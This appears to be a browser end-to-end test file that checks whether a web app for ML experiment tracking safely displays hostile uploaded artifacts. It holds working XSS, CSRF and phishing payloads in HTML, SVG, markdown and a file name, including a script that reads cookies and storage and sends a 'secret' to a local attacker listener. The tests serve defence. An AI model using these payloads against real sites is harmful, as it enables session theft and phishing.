"""Files that attack whoever looks at them: a picture, a page, a text. None of them may reach anything of ours."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.browser.conftest import Visit
from tests.e2e.browser.reading import log_in
from tests.e2e.browser.stored import Stored
from tests.servers import RunningServer, start_trialog

ADMIN = ("ada", "a long password of hers")
# What a script finds out and does; each thing that it is refused stands there by the name of its exception.
SCRIPT = """
(async () => {
  const found = {};
  const attempt = async (name, action) => {
    try {
      const value = await action();
      found[name] = `got ${value}`;
    } catch (error) {
      found[name] = error.name;
    }
  };
  await attempt("origin", () => self.origin);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.getItem("trialog.language"));
  await attempt("session", () => sessionStorage.length);
  await attempt("database", () => indexedDB.open("trialog").constructor.name);
  await attempt("page", () => parent.document.title);
  await attempt("top", () => top.document.body.innerHTML);
  await attempt("address", () => { top.location.href = "%(other)s/top"; return "left"; });
  await attempt("window", () => (window.open("%(other)s/window") ? "opened" : (() => { throw new TypeError(); })()));
  await attempt("api", async () => (await fetch("%(own)s/api/2.0/mlflow/experiments/search?max_results=1")).status);
  await attempt("credentials", async () =>
    (await fetch("%(own)s/api/2.0/mlflow/experiments/search?max_results=1", {credentials: "include"})).status);
  await attempt("elsewhere", async () => (await fetch("%(other)s/fetch", {mode: "no-cors"})).type);
  new Image().src = "%(other)s/image";
  navigator.sendBeacon("%(other)s/beacon", "secret");
  const out = document.createElementNS("http://www.w3.org/1999/xhtml", "pre");
  out.id = "found";
  out.textContent = JSON.stringify(found);
  document.documentElement.appendChild(out);
})();
"""
PAGE = """<!doctype html><html><head><title>report</title>
<link rel="stylesheet" href="%(other)s/style.css"><script src="%(other)s/script.js"></script></head>
<body onload="document.body.dataset.loaded = 'yes'"><h1>Quarterly report</h1>
<img src="%(other)s/pixel.png" onerror="document.body.dataset.failed = 'yes'">
<iframe src="%(own)s/experiments"></iframe>
<form id="form" action="%(own)s/api/2.0/mlflow/experiments/create" method="post"><input name="name" value="s"></form>
<script>%(script)s; document.getElementById("form").submit();</script></body></html>"""
PICTURE = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="90"
 onload="document.documentElement.setAttribute('data-loaded', 'yes')"><rect width="200" height="90" fill="tomato"/>
<image xlink:href="%(other)s/pixel.png" width="9" height="9"/><script>%(script)s</script>
<a xlink:href="javascript:alert(1)"><text y="50">press me</text></a></svg>"""
TEXT = """# Plan

<script>%(script)s</script><img src=x onerror="document.title = 'taken'"><svg onload="document.title = 'taken'"></svg>
[press me](javascript:document.title='taken') ![pixel](%(other)s/pixel.png)
<iframe src="%(other)s/frame"></iframe><style>body { display: none }</style>
<form action="%(other)s/form"><button name="secret">Log in again</button></form>
<a href="%(other)s/link" target="_top" style="position: fixed; inset: 0">everything</a>
<math><mtext></p><img src=x onerror="document.title = 'taken'"></mtext></math>
"""
NAME = "<img src=x onerror=document.title='taken'>.txt"


class Attack(NamedTuple):
    """Where the files are.

    Attributes:
        server: Ours.
        run_id: The run that has the files.
        asked: What the attacker's host was asked for.
    """

    server: RunningServer
    run_id: str
    asked: list[str]


@pytest.fixture(scope="module")
def attack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attack]:
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_arguments: object) -> None:
            pass

    environment = {"MLFLOW_AUTH_ADMIN_USERNAME": ADMIN[0], "MLFLOW_AUTH_ADMIN_PASSWORD": ADMIN[1]}
    other = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=other.serve_forever, daemon=True)
    thread.start()
    with start_trialog(tmp_path_factory.mktemp("server"), "--accounts", environment=environment) as server:
        addresses = {"other": f"http://127.0.0.1:{other.server_port}", "own": server.url}
        parts = {**addresses, "script": SCRIPT % addresses}
        with Stored(server.url, ADMIN) as stored:
            run_id = stored.run("0", "attacked", metrics={"loss": [1]})
            stored.file("0", run_id, "report.html", (PAGE % parts).encode())
            stored.file("0", run_id, "picture.svg", (PICTURE % parts).encode())
            stored.file("0", run_id, "plan.md", (TEXT % parts).encode())
            stored.file("0", run_id, NAME.replace("<", "%3C").replace(">", "%3E").replace(" ", "%20"), b"plain")
            stored.post("runs/set-tag", run_id=run_id, key="mlflow.note.content", value=TEXT % parts)
        yield Attack(server, run_id, asked)
    other.shutdown()
    thread.join()
    other.server_close()


# The browser says of each thing that it kept the attacker from doing; of nothing else.
KEPT = (
    r"Content Security Policy",
    r"Policy broken: .* in http://127\.0\.0\.1:\d+/api/trialog/v1/",
    # Of what was taken out of a text before it was shown.
    r"Policy broken: (script-src-attr|style-src-attr|style-src-elem) by inline in ",
    r"/artifacts/view\?path=x",
    r"sandboxed",
    r"Unsafe attempt",
    r"Blocked (script|form|autofocus|opening)",
    r"net::ERR_BLOCKED_BY_(CSP|RESPONSE)",
    r"frame-ancestors|Refused to (display|frame|load|apply|connect|execute)",
)


def logged_in(attack: Attack, visit: Visit, address: str) -> Page:
    """Open a page as somebody who has what is worth stealing: a session."""
    page = visit(attack.server, "login", expected=KEPT)
    log_in(page, *ADMIN)
    page.evaluate("() => localStorage.setItem('trialog.language', 'en')")
    page.goto(address)
    return page


def test_the_scripts_of_a_page_do_not_run_before_somebody_lets_them(attack: Attack, visit: Visit) -> None:
    page = logged_in(attack, visit, f"runs/{attack.run_id}/artifacts?path=report.html")
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("heading", name="Quarterly report")).to_be_visible()
    expect(frame.locator("#found")).to_have_count(0)
    expect(frame.locator("body[data-loaded], body[data-failed]")).to_have_count(0)
    assert page.locator("iframe").get_attribute("sandbox") == ""
    assert attack.asked == []


def test_a_page_that_runs_its_scripts_reaches_nothing(attack: Attack, visit: Visit) -> None:
    page = logged_in(attack, visit, f"runs/{attack.run_id}/artifacts?path=report.html")
    address = page.url
    page.get_by_role("button", name="Run its scripts").click()
    result = page.frame_locator("iframe").locator("#found")
    expect(result).to_be_attached()
    found = json.loads(result.text_content() or "")
    assert found.pop("origin") == "got null"
    assert {name: value for name, value in found.items() if value.startswith("got")} == {}
    assert page.url == address
    expect(page).to_have_title("attacked · Trialog")
    assert len(page.context.pages) == 1
    assert attack.asked == []
    with Stored(attack.server.url, ADMIN) as stored:
        names = [each["name"] for each in stored.post("experiments/search", max_results=100)["experiments"]]
    assert names == ["Default"], "the form was sent"


@pytest.mark.parametrize("path", ["report.html", "picture.svg"])
@pytest.mark.parametrize("address", ["view", "script", "get"])
def test_a_file_opened_by_itself_is_nobody(attack: Attack, visit: Visit, path: str, address: str) -> None:
    """Somebody is sent a link to the file itself: its scripts do not run there, or the browser saves it."""
    page = logged_in(attack, visit, f"runs/{attack.run_id}/artifacts?path={path}")
    if path == "report.html":
        shown = page.locator("iframe").get_attribute("src")
    else:
        shown = page.get_by_role("img", name=path).get_attribute("src")
    assert shown is not None
    if address == "get":
        with page.expect_download() as download:
            page.get_by_role("link", name="Download").click()
        assert download.value.suggested_filename == path
        with page.expect_download():
            page.evaluate(f"() => {{ location.href = 'get-artifact?run_id={attack.run_id}&path={path}'; }}")
        return
    page.goto(shown + ("&allow_scripts=true" if address == "script" else ""))
    assert page.evaluate("() => self.origin") == "null"
    assert page.locator("#found").count() == 0
    assert page.locator("[data-loaded]").count() == 0
    assert attack.asked == []


def test_a_picture_is_a_picture(attack: Attack, visit: Visit) -> None:
    page = logged_in(attack, visit, f"runs/{attack.run_id}/artifacts?path=picture.svg")
    expect(page.get_by_role("img", name="picture.svg")).to_be_visible()
    expect(page.get_by_text("200 × 90")).to_be_visible()
    expect(page).to_have_title("attacked · Trialog")
    page.get_by_role("button", name="As text").click()
    expect(page.get_by_text("press me")).to_be_visible()
    assert attack.asked == []


def test_markdown_is_cleaned_wherever_it_is_shown(attack: Attack, visit: Visit) -> None:
    for address in (f"runs/{attack.run_id}/artifacts?path=plan.md", f"runs/{attack.run_id}"):
        page = logged_in(attack, visit, address)
        expect(page.get_by_role("heading", name="Plan", exact=True)).to_be_visible()
        main = page.get_by_role("main")
        assert main.locator("script, iframe, style, form, svg[onload], math, [onerror], [onload]").count() == 0
        assert main.locator("[href^='javascript:']").count() == 0
        assert main.get_by_role("button", name="Log in again").count() == 0
        outside = main.get_by_role("link", name="everything")
        assert outside.get_attribute("target") == "_blank"
        assert outside.get_attribute("style") is None
        assert "noreferrer" in (outside.get_attribute("rel") or "")
        # Not even its picture is fetched.
        assert main.locator("img[src*='127.0.0.1']").count() == 0
        expect(page).to_have_title("attacked · Trialog")
    assert attack.asked == []


def test_names_are_names(attack: Attack, visit: Visit) -> None:
    page = logged_in(attack, visit, f"runs/{attack.run_id}/artifacts")
    page.get_by_role("treeitem", name=NAME).click()
    expect(page.get_by_role("heading", name=NAME)).to_be_visible()
    expect(page.get_by_text("plain", exact=True)).to_be_visible()
    expect(page).to_have_title("attacked · Trialog")
